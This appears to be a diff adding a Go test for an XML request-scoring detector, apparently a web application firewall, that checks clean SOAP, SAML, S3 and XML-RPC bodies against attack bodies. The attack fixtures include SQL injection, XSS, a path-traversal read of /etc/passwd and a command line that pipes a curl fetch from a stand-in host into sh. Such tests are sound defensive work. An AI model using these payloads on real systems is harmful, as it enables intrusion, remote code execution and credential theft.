@@ -248,3 +248,60 @@ func TestGraphQLScoresByItsStrings(t *testing.T) {
 		})
 	}
 }
+
+// XML bodies are walked by element path (xmlwalk.go): SOAP, SAML, S3 and
+// XML-RPC calls score clean, and a payload in a text node, an attribute or
+// CDATA is found in its element; XML that carries HTML is scored whole and
+// still flags.
+func TestXMLScoresByItsText(t *testing.T) {
+	t.Parallel()
+	m := mustDefault(t)
+	post := func(ct, body string) Request {
+		return Request{Method: "POST", URI: "/svc", Headers: [][2]string{{"content-type", ct}, {"user-agent", "Apache-HttpClient/4.5.14 (Java/17.0.9)"}}, Body: []byte(body)}
+	}
+	const soap = `<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetQuote xmlns="http://tempuri.org/"><symbol>%s</symbol></GetQuote></soap:Body></soap:Envelope>`
+	clean := []struct {
+		name string
+		req  Request
+	}{
+		{"soap", post("text/xml; charset=utf-8", fmt.Sprintf(soap, "MSFT"))},
+		{"ws-security soap 1.2", post("application/soap+xml; charset=utf-8", `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing" xmlns:u="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"><s:Header><a:Action s:mustUnderstand="1">http://tempuri.org/IOrderService/PlaceOrder</a:Action><a:MessageID>urn:uuid:7b3c2f1e-8a4d-4e6b-9c1f-2d5e8f7a6b3c</a:MessageID><o:Security s:mustUnderstand="1" xmlns:o="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"><u:Timestamp u:Id="_0"><u:Created>2026-11-30T10:15:00.000Z</u:Created></u:Timestamp><o:UsernameToken><o:Username>svc-orders</o:Username><o:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordText">S3cr3t!Pass</o:Password></o:UsernameToken></o:Security></s:Header><s:Body><PlaceOrder xmlns="http://tempuri.org/"><order xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><CustomerId>10442</CustomerId><Notes i:nil="true"/></order></PlaceOrder></s:Body></s:Envelope>`)},
+		{"saml authn request", post("application/xml", `<?xml version="1.0" encoding="UTF-8"?><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="ONELOGIN_809707f0030a5d00620c9d9df97f627afe9dcc24" Version="2.0" IssueInstant="2014-07-16T23:52:45Z" Destination="http://idp.example.com/SSOService.php" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" AssertionConsumerServiceURL="http://sp.example.com/demo1/index.php?acs"><saml:Issuer>http://sp.example.com/demo1/metadata.php</saml:Issuer><samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true"/></samlp:AuthnRequest>`)},
+		{"s3 create bucket", post("application/xml", `<?xml version="1.0" encoding="UTF-8"?><CreateBucketConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><LocationConstraint>eu-west-1</LocationConstraint></CreateBucketConfiguration>`)},
+		{"order with entities", post("application/xml", `<?xml version="1.0"?><order><customer name="Zoë O&apos;Neill" email="zoe@example.ie"/><note>Please deliver after 5pm &amp; ring twice</note><item sku="X-1" qty="3">Garden chair</item></order>`)},
+		{"xml-rpc", post("text/xml", `<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>admin</string></value></param><param><value><string>hunter2</string></value></param></params></methodCall>`)},
+	}
+	for _, tc := range clean {
+		t.Run("clean/"+tc.name, func(t *testing.T) {
+			t.Parallel()
+			s := m.Score(context.Background(), &tc.req)
+			if s.Overall < cleanFloor || !s.Complete {
+				t.Errorf("scored %d (complete %v), want >= %d", s.Overall, s.Complete, cleanFloor)
+			}
+		})
+	}
+	attacks := []struct {
+		name, ct, body, field string
+	}{
+		{"sqli in a text node", "text/xml", fmt.Sprintf(soap, "1 UNION SELECT username, password FROM users--"), "Envelope.Body.GetQuote.symbol"},
+		{"escaped xss in a text node", "text/xml", fmt.Sprintf(soap, "&lt;script&gt;alert(1)&lt;/script&gt;"), "Envelope.Body.GetQuote.symbol"},
+		{"xss in CDATA", "text/xml", fmt.Sprintf(soap, "<![CDATA[<script>alert(1)</script>]]>"), "Envelope.Body.GetQuote.symbol"},
+		{"traversal in an attribute", "application/xml", `<?xml version="1.0"?><doc><file path="../../../../etc/passwd"/></doc>`, "doc.file@path"},
+		{"rce in a text node", "text/xml", fmt.Sprintf(soap, "$(curl http://x.example/s|sh)"), "Envelope.Body.GetQuote.symbol"},
+		{"script element: scored whole", "text/xml", fmt.Sprintf(soap, "<script>alert(1)</script>"), ""},
+		{"event handler: scored whole", "application/xml", `<r><x onmouseover="alert(1)">y</x></r>`, ""},
+	}
+	for _, tc := range attacks {
+		t.Run("attack/"+tc.name, func(t *testing.T) {
+			t.Parallel()
+			req := post(tc.ct, tc.body)
+			s := m.Score(context.Background(), &req)
+			if s.Overall > m.Info().DefaultThreshold {
+				t.Errorf("scored %d, want <= %d", s.Overall, m.Info().DefaultThreshold)
+			}
+			if len(s.Locations) == 0 || s.Locations[0].Field != tc.field {
+				t.Errorf("locations %+v, want %q first", s.Locations, tc.field)
+			}
+		})
+	}
+}
